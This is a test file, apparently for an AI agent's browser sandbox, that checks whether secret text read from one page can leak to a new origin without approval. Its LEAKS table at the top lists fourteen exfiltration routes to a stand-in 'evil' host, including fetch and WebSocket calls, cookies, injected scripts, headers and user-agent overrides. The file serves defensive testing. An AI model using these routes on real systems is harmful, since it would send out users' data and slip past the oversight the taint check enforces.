"""Ways that carry what was read past the question by a page, a cookie or a call that code left behind."""

import json
from pathlib import Path

import pytest

from ouroboros.tools.approval import Nobody
from tests.browser.chromium import Chromium
from tests.browser.site import Asked, Reply, Site
from tests.browser.tainted import tainted
from tests.cases import soak_but

SETTLE = "; await sleep(500)"

LEAKS = {
    "page-in-an-address": "await openTab(`data:text/html,<img src='${evil}?${secret}'>`)",
    "navigation-to-one": "await navigate(b, `data:text/html,<script>fetch('${evil}?${secret}')</script>`)",
    "socket-of-one": "await openTab(`data:text/html,<script>new WebSocket('${socket}?${secret}')</script>`)",
    "cookie": "await setCookie(b, {name: 's', value: secret, url: evil}); await navigate(b, ads)",
    "cookie-of-domain": "await setCookie(b, {name: 's', value: secret, domain: new URL(evil).hostname}); await navigate(b, ads)",
    "script-for-later": "await cdp(b, 'Page.addScriptToEvaluateOnNewDocument', {source: `fetch('${evil}?${secret}')`}); await navigate(b, ads)",
    "reload-with-script": "await navigate(b, ads); await cdp(b, 'Page.reload', {scriptToEvaluateOnLoad: `fetch('${evil}?${secret}')`})",
    "header": "await cdp(b, 'Network.setExtraHTTPHeaders', {headers: {'x-s': secret}}); await navigate(b, ads)",
    "user-agent": "await cdp(b, 'Network.setUserAgentOverride', {userAgent: secret}); await navigate(b, ads)",
    "user-agent-again": "await cdp(b, 'Emulation.setUserAgentOverride', {userAgent: secret}); await navigate(b, ads)",
    "cookie-by-call": "await cdp(b, 'Network.setCookie', {name: 's', value: secret, url: evil}); await navigate(b, ads)",
    "page-that-passes-on": "await openTab(`${echo}?img=${encodeURIComponent(`${evil}?${secret}`)}`)",
    "page-that-frames": "await openTab(`${echo}?frame=${encodeURIComponent(`${evil}?${secret}`)}`)",
    "socket-beside-an-advertisement": "await openTab(ads); await sleep(300); await execInTab(b, `new WebSocket('${socket}?${secret}'); 1`, {world: 'main'})",
}


def _echo(asked: Asked) -> Reply:
    image, frame = asked.query.get("img", ""), asked.query.get("frame", "")
    return Reply(f"<img src='{image}'>" if image else f"<iframe src='{frame}'></iframe>")


def _told(asked: Asked) -> str:
    return f"{asked.path} {asked.query} {dict(asked.headers)}"


@pytest.mark.proves("browser-new-origin")
@pytest.mark.parametrize("name", soak_but(2, LEAKS))
async def test_what_was_read_does_not_arrive_at_a_new_place(
    chromium: Chromium, site: Site, tmp_path: Path, name: str
) -> None:
    folder = tmp_path / "work"
    folder.mkdir()
    site.put("shop", "<title>Shop</title>secretgoods")
    site.put("next", "<title>Next</title>")
    site.put("ads", f"<title>Ads</title><img src='{site.url('pixel.png', 2)}'>")
    site.put("echo", _echo)
    evil = site.url("evil", 2)
    names = {
        "evil": evil,
        "socket": evil.replace("http:", "ws:"),
        "ads": site.url("ads"),
        "echo": site.url("echo", 1),
    }
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        for key, value in names.items():
            await repl.define(key, json.dumps(value).encode())
        opened = await repl.run_block(
            f"var a = await openTab('{site.url('shop')}'); await waitForLoad(a);"
            f"var b = await openTab('{site.url('next', 1)}'); await waitForLoad(b);"
            "var secret = (await getText(a)).trim(); secret",
            call_id="c1",
        )
        assert "secretgoods" in opened.text
        await repl.run_block(f"{LEAKS[name]}{SETTLE}", call_id="c2")
    arrived = [_told(asked) for asked in site.requests if asked.path in site.paths(2)]
    assert not [told for told in arrived if "secretgoods" in told or "evil" in told]


LOOKS = {
    "title": ("tabs[0].title", True),
    "all": ("JSON.stringify(tabs)", True),
    "through-a-function": ("titles()", True),
    "address-of-a-frame": ("await frames(a)", True),
    "count": ("tabs.length", False),
    "name": ("tabs[0].id + tabs[0].status", False),
}


@pytest.mark.proves("browser-new-origin")
@pytest.mark.parametrize(
    "name", ["title", *(pytest.param(name, marks=pytest.mark.deep) for name in [*LOOKS][1:])]
)
async def test_titles_and_addresses_are_page_data(
    chromium: Chromium, site: Site, tmp_path: Path, name: str
) -> None:
    code, is_read = LOOKS[name]
    folder = tmp_path / "work"
    folder.mkdir()
    site.put("shop", "<title>secretgoods</title>")
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        if "titles" in code:
            define = "function titles() { return tabs.map((tab) => tab.title) }"
            await repl.run_block(define, call_id="c1")
        opened = f"var a = await openTab('{site.url('shop')}'); await waitForLoad(a); {code}"
        await repl.run_block(opened, call_id="c2")
        assert place.taint.by == ((site.origin(),) if is_read else ())
        told = await repl.run_block(f"await openTab('{site.url('evil', 2)}')", call_id="c3")
        assert told.ok is not is_read
